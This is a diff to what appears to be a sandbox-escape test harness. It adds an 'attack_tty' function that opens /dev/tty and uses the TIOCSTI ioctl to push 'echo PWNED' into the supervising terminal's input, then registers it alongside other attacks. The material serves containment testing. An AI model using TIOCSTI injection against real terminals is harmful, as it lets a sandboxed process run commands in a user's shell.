@@ -211,6 +211,25 @@ def attack_setsid():
         os._exit(0)
 
 
+def attack_tty():
+    # The referee's terminal: open it, push a command into its input (TIOCSTI), write to it.
+    import fcntl
+    import termios
+    try:
+        fd = os.open("/dev/tty", os.O_RDWR)
+    except OSError as e:
+        log(f"open /dev/tty: {e}")
+        return
+    gained.append("opened /dev/tty")
+    try:
+        for ch in b"echo PWNED\n":
+            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
+        gained.append("TIOCSTI into the terminal")
+    except OSError as e:
+        log(f"TIOCSTI: {e}")
+    os.close(fd)
+
+
 def attack_memory_hog():
     hog = []
     while True:
@@ -248,6 +267,7 @@ ATTACKS = {
     "results": attack_results,
     "tcp": attack_tcp,
     "setsid": attack_setsid,
+    "tty": attack_tty,
     "ignore-term": lambda: None,
     "hang": lambda: None,
     "memory-hog": attack_memory_hog,
